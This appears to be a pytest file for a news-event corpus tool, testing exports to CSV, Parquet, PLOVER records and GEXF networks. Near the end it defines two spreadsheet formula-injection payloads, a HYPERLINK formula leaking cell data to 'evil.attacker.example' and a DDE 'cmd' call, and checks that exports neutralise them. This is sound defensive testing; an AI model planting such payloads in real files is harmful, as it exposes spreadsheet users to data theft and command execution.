"""Exports: events as CSV, Parquet, JSONL and PLOVER records; documents as contract JSONL; the network as GEXF."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET

import pytest
from corpus_records import REPORTS, stored

from communique.corpus.dedup import merge_events
from communique.corpus.exports import export
from communique.errors import CommuniqueError


@pytest.fixture
def corpus(tmp_path):
    from communique.corpus.store import open_store

    with open_store(tmp_path / "corpus.db") as store:
        store.write_batch(None, [stored(r) for r in REPORTS])
        merge_events(store)
        yield store


def test_csv_has_one_row_per_event_with_its_dyad_and_evidence(corpus, tmp_path):
    out = tmp_path / "events.csv"
    assert export(corpus, "events", "csv", out) == 15
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    drones = [r for r in rows if r["type"] == "AID"]
    assert len(drones) == 1
    assert (drones[0]["actor"], drones[0]["recipient"]) == ("TUR", "AZE")
    assert drones[0]["evidence"].startswith("Turkey delivered drones")
    assert drones[0]["quad_class"] == "material_cooperation"


def test_parquet_holds_the_same_events_as_csv(corpus, tmp_path):
    import pyarrow.parquet as pq

    export(corpus, "events", "parquet", tmp_path / "events.parquet")
    table = pq.read_table(tmp_path / "events.parquet")
    assert table.num_rows == 15
    assert sorted(set(table.column("type").to_pylist())) == ["ACCUSE", "AGREE", "AID", "CONSULT"]


def test_plover_records_carry_the_manuals_required_fields(corpus, tmp_path):
    out = tmp_path / "events.plover.jsonl"
    export(corpus, "events", "plover", out)
    records = [json.loads(line) for line in out.open(encoding="utf-8")]
    accusation = next(r for r in records if r["event"] == ["ACCUSE"] and r["actor"] == [{"code": "KGZ"}])
    assert {"id", "date", "actor", "recipient", "event"} <= set(accusation)
    assert accusation["date"] == "2021-04-20"
    assert accusation["quad_code"] == 3 and accusation["event_scale"] == -2.0
    assert accusation["cite_info"]["source"] == "AKIpress"


def test_documents_export_rebuilds_each_analysis_object_exactly(corpus, tmp_path):
    out = tmp_path / "documents.jsonl"
    assert export(corpus, "documents", "jsonl", out) == len(REPORTS)
    exported = {r["document"]["id"]: r for r in map(json.loads, out.open(encoding="utf-8"))}
    for original in REPORTS:
        assert exported[original["document"]["id"]] == original


def test_gexf_network_opens_as_xml_with_directed_weighted_edges(corpus, tmp_path):
    out = tmp_path / "network.gexf"
    export(corpus, "network", "gexf", out, since="2022-01-01")
    root = ET.parse(out).getroot()
    ns = {"g": "http://gexf.net/1.3"}
    nodes = {n.get("id") for n in root.iterfind(".//g:node", ns)}
    assert {"AZE", "KGZ", "RUS", "CHN", "DEU", "TUR"} <= nodes
    edge = next(
        e for e in root.iterfind(".//g:edge", ns) if (e.get("source"), e.get("target")) == ("AZE", "RUS")
    )
    assert edge.get("weight") == "2"


def test_an_unknown_format_is_refused_with_the_allowed_ones(corpus, tmp_path):
    with pytest.raises(CommuniqueError, match="parquet"):
        export(corpus, "events", "xlsx", tmp_path / "x.xlsx")


FORMULA_TITLE = '=HYPERLINK("http://evil.attacker.example/?leak="&A1,"Read more")'
FORMULA_TEXT = "=cmd|' /C calc'!A0 Turkey delivered drones to Azerbaijan on Monday, officials said."


@pytest.fixture
def formula_corpus(tmp_path):
    """One article whose title and text begin with spreadsheet formulas (its evidence is the whole text)."""
    from corpus_records import record

    from communique.corpus.store import open_store

    path = tmp_path / "formulas.db"
    with open_store(path) as store:
        store.write_batch(
            None, [stored(record(FORMULA_TEXT, "2024-05-06", [("AID", "TUR", "AZE")], title=FORMULA_TITLE))]
        )
    return path


def _formula_row(rows: list[dict]) -> dict:
    (row,) = rows
    return row


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(formula_corpus, tmp_path):
    from communique.corpus.store import open_store

    out = tmp_path / "events.csv"
    with open_store(formula_corpus) as store:
        export(store, "events", "csv", out)
    row = _formula_row(list(csv.DictReader(out.open(encoding="utf-8"))))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["evidence"] == "'" + FORMULA_TEXT
    assert row["score"] == "7.0"  # numbers stay numbers


def test_api_csv_download_neutralises_formula_cells_too(formula_corpus):
    import io

    from fastapi.testclient import TestClient

    from communique.api.app import create_app

    app = create_app(str(formula_corpus), token="t")
    with TestClient(app, base_url="http://127.0.0.1", client=("127.0.0.1", 50000)) as c:
        r = c.get("/api/events/export?format=csv")
    assert r.status_code == 200
    row = _formula_row(list(csv.DictReader(io.StringIO(r.text))))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["evidence"] == "'" + FORMULA_TEXT
